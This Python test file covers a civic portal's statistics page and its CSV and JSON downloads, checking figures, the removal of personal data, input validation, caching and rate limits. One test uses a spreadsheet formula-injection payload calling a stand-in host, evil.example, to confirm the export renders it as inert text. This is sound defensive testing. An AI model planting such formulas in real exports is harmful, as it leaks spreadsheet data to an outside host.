"""/stats and its downloads on the real database: the page and the files agree, and carry no personal data."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from decimal import Decimal
from typing import Any

from sqlmodel import Session, col, select

from portal.directory.models import Department
from portal.services import Services
from portal.stats.period import today
from portal.stats.report import FIGURE_COLUMNS, TICKET_COLUMNS
from portal.stats.views import csv_cell
from portal.tickets.models import Ticket
from tests.pages import PageClient
from tests.unit.factories import a_community, report_fields, resolve_ticket, submit_report


def period_query() -> str:
    """Yesterday to tomorrow in district time: safe from the month turning during the test."""
    return f"from={today() - timedelta(days=1)}&to={today() + timedelta(days=1)}"


def figures_csv(client: PageClient, query: str) -> list[dict[str, str]]:
    response = client.get(f"/stats/figures.csv?{query}")
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # spreadsheet programs need the mark for Chinese
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows and tuple(rows[0]) == FIGURE_COLUMNS
    return rows


def cell(html: str, group: str, figure: str) -> str:
    row = re.search(rf'<tr data-group="{group}">(.*?)</tr>', html, re.S)
    assert row, f"the league table has a row for {group}"
    found = re.search(rf'data-figure="{figure}">(.*?)</td>', row.group(1), re.S)
    assert found
    return re.sub(r"<[^>]+>", " ", found.group(1)).split()[0]


def report(client: PageClient, db: Session, **overrides: Any) -> Ticket:
    before = {t.id for t in db.exec(select(Ticket))}
    assert submit_report(client, report_fields(client, a_community(db).slug, **overrides)).status_code == 303
    return next(t for t in db.exec(select(Ticket).order_by(col(Ticket.id))) if t.id not in before)


def rate(client: PageClient, code: str, **fields: str) -> Any:
    return client.post(
        f"/t/{code}/rate", data={"_csrf_token": client.csrf(), **fields}, follow_redirects=False
    )


def test_the_figures_move_as_the_formulas_say_and_page_and_downloads_agree(
    client: PageClient, db: Session, services: Services, app: Any
) -> None:
    query = period_query()
    department = db.exec(select(Department).order_by(col(Department.id))).first()
    assert department is not None
    first = report(client, db)
    second = report(client, db, phone="13912345678", description="集美大道路灯不亮已经三天了，晚上很黑。")
    resolve_ticket(db, services, first, "a")
    resolve_ticket(db, services, second, "b")
    before = client.get(f"/stats?{query}")
    assert before.status_code == 200
    assert cell(before.text, department.slug, "response_rate") == "100.0%"
    assert cell(before.text, department.slug, "satisfaction_rate") == "—"

    assert rate(client, second.code, level="4", solved="yes").status_code == 303  # the reporter's own browser
    with PageClient(app=app, base_url="http://portal.test") as neighbour:
        poor = rate(neighbour, first.code, level="2", solved="no", digits="1234")
        assert poor.status_code == 303  # 不满意, not solved: a supervision order reopens it

    page = client.get(f"/stats?{query}").text
    rows = figures_csv(client, query)
    district = next(r for r in rows if r["group_type"] == "district")
    mine = next(r for r in rows if r["group_code"] == department.slug)
    for row in (district, mine):
        assert (row["dispatched"], row["accepted_on_time"], row["response_rate"]) == ("2", "2", "100.0")
        assert (row["rated_rounds"], row["solved_rounds"], row["resolution_rate"]) == ("2", "1", "50.0")
        assert (row["ratings"], row["satisfied_ratings"], row["satisfaction_rate"]) == ("2", "1", "50.0")
        assert (row["resolutions"], row["resolved_on_time"], row["on_time_rate"]) == ("2", "2", "100.0")
        assert row["open_supervision_orders"] == "1"
        # (10 × 100 + 50 × 50 + 40 × 50) / 100
        assert row["composite_score"] == "55.0"
    assert mine["rank"] == "1"
    for figure in ("response_rate", "resolution_rate", "satisfaction_rate", "on_time_rate"):
        assert cell(page, department.slug, figure) == f"{mine[figure]}%"
    assert cell(page, department.slug, "composite_score") == mine["composite_score"]
    assert cell(page, department.slug, "open_supervision_orders") == mine["open_supervision_orders"]

    as_json = client.get(f"/stats/figures.json?{query}").json()
    json_row = next(r for r in as_json["rows"] if r["group_code"] == department.slug)
    assert json_row["satisfaction_rate"] == 50.0 and json_row["composite_score"] == 55.0
    assert as_json["weights"] == {"response": 10, "resolution": 50, "satisfaction": 40}
    assert [d["name"] for d in as_json["definitions"]][:3] == [
        "Response rate",
        "Resolution rate",
        "Satisfaction rate",
    ]


def test_the_ticket_list_adds_up_and_carries_no_personal_data(
    client: PageClient, db: Session, services: Services
) -> None:
    query = period_query()
    public = report(client, db, name="陈美玲", phone="13859201234", address="乐海路12号门口")
    private = report(
        client, db, phone="13912345678", visibility="private", description="邻居家漏水，联系13912345678。"
    )
    resolve_ticket(db, services, public, "a")
    resolve_ticket(db, services, private, "b")
    assert (
        rate(
            client, public.code, level="5", solved="yes", comment="王师傅电话13800001111，修得好"
        ).status_code
        == 303
    )

    response = client.get(f"/stats/tickets.csv?{query}")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == TICKET_COLUMNS and len(rows) == 2
    assert {r["ticket"] for r in rows} == {public.code, ""}  # a private ticket's code stays private
    hidden = next(r for r in rows if r["ticket"] == "")
    assert (
        hidden["reported_on"] == hidden["category"] == "" and hidden["street"] and hidden["dispatched"] == "1"
    )
    for secret in (
        "陈美玲",
        "13859201234",
        "1234",
        "乐海路12号",
        "13912345678",
        "漏水",
        "王师傅",
        "13800001111",
    ):
        assert secret not in text
    district = next(r for r in figures_csv(client, query) if r["group_type"] == "district")
    for column in ("dispatched", "accepted_on_time", "resolutions", "ratings", "satisfied_ratings"):
        assert sum(int(r[column]) for r in rows) == int(district[column])

    as_json = client.get(f"/stats/tickets.json?{query}")
    assert as_json.status_code == 200 and "13859201234" not in as_json.text and "陈美玲" not in as_json.text
    assert {r["ticket"] for r in as_json.json()["rows"]} == {public.code, ""}


def test_a_backwards_or_absurd_period_gets_a_clear_message(client: PageClient) -> None:
    backwards = client.get("/stats?from=2026-10-31&to=2026-10-01")
    assert backwards.status_code == 400 and "The last day is before the first day" in backwards.text
    assert 'value="2026-10-31"' in backwards.text  # what the reader typed is kept
    assert "The figures start in January 2020" in client.get("/stats?month=1900-01").text
    assert client.get("/stats?month=9999-12").status_code == 400  # the calendar's last month: no crash
    assert client.get("/stats/figures.csv?month=9999-12").status_code == 400
    assert "at most two years" in client.get("/stats?from=2020-01-01&to=2026-10-01").text
    csv_refused = client.get("/stats/figures.csv?from=2026-10-31&to=2026-10-01")
    assert csv_refused.status_code == 400 and "The last day is before the first day" in csv_refused.text
    json_refused = client.get("/stats/tickets.json?month=garbage")
    assert json_refused.status_code == 400 and "error" in json.loads(json_refused.text)
    assert client.get("/stats/figures.xlsx").status_code == 404
    assert csv_refused.headers["content-type"] == "text/plain; charset=utf-8"


def test_a_name_that_looks_like_a_formula_is_exported_as_text(
    client: PageClient, db: Session, services: Services
) -> None:
    department = db.exec(select(Department).order_by(col(Department.id))).first()
    assert department is not None
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    kept = (department.name_zh_hans, department.name_zh_hant, department.name_en)
    department.name_zh_hans = department.name_zh_hant = department.name_en = formula
    db.add(department)
    db.commit()
    services.reference.invalidate()
    try:
        rows = figures_csv(client, f"{period_query()}&by=department")
    finally:
        department.name_zh_hans, department.name_zh_hant, department.name_en = kept
        db.add(department)
        db.commit()
        services.reference.invalidate()
    mine = next(r for r in rows if r["group_code"] == department.slug)
    assert mine["group_name"] == "'" + formula  # a spreadsheet shows it as text and never runs it
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())


def test_only_text_cells_are_neutralised_never_numbers() -> None:
    for risky in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(risky) == "'" + risky
    assert [csv_cell(v) for v in (-3, Decimal("-12.5"), 0, None, "集美")] == ["-3", "-12.5", "0", "", "集美"]


def test_every_download_column_is_explained_on_a_public_page_in_every_language(client: PageClient) -> None:
    stats = client.get(f"/stats?{period_query()}").text
    assert "README" not in stats and 'href="/stats/columns"' in stats
    for language, heading, composite in (
        ("en", "What the download columns mean", "satisfaction rate × 40) ÷ 100"),
        ("zh-Hans", "下载数据各列的含义", "满意率 × 40）÷ 100"),
        ("zh-Hant", "下載數據各列的含義", "滿意率 × 40）÷ 100"),
    ):
        page = client.get(f"/stats/columns?lang={language}")
        assert page.status_code == 200 and f"<h1>{heading}</h1>" in page.text
        assert composite in page.text  # the weights in force, as on /stats
        for column in FIGURE_COLUMNS + TICKET_COLUMNS:
            assert f"<code>{column}</code>" in page.text, column


def test_the_home_page_leads_to_the_figures(client: PageClient) -> None:
    home = client.get("/").text
    assert 'href="/stats"' in home and "coming soon" not in home.split('href="/stats"')[1].split("</li>")[0]
    empty = client.get("/stats")
    assert empty.status_code == 200 and "League table of departments" in empty.text
    assert "How the figures are calculated" in empty.text and "× 10" in empty.text


def test_a_recent_report_is_reused_for_max_age_seconds(monkeypatch: Any) -> None:
    from portal.stats import views

    clock = [1000.0]
    monkeypatch.setattr(views.time, "monotonic", lambda: clock[0])
    cache = views.ReportCache()
    report: Any = object()
    cache.put("october", (5, 1), report)
    assert cache.stamp_for("october", (5, 1), 60) == (5, 1)
    clock[0] += 30
    assert cache.stamp_for("october", (6, 1), 60) == (5, 1)  # a new event, but the report is 30 s old
    assert cache.get("october", (5, 1)) is report
    clock[0] += 31
    assert cache.stamp_for("october", (6, 1), 60) == (6, 1)  # older than a minute: computed again
    assert cache.get("october", (6, 1)) is None
    assert cache.stamp_for("october", (6, 1), 0) == (6, 1) and cache.stamp_for("november", (6, 1), 60) == (
        6,
        1,
    )


def test_computing_afresh_is_rate_limited_but_cached_answers_are_not(client: PageClient) -> None:
    months = [f"{year}-{month:02d}" for year in (2024, 2025) for month in range(1, 13)] + [
        f"2026-{month:02d}" for month in range(1, 8)
    ]
    assert len(months) == 31  # the default limit is 30 per 10 minutes
    statuses = [client.get(f"/stats?month={month}").status_code for month in months]
    assert statuses[:30] == [200] * 30 and statuses[30] == 429
    assert client.get("/stats?month=2024-01").status_code == 200  # already computed: from the cache
    assert client.get("/stats/tickets.csv?month=2024-02").status_code == 429
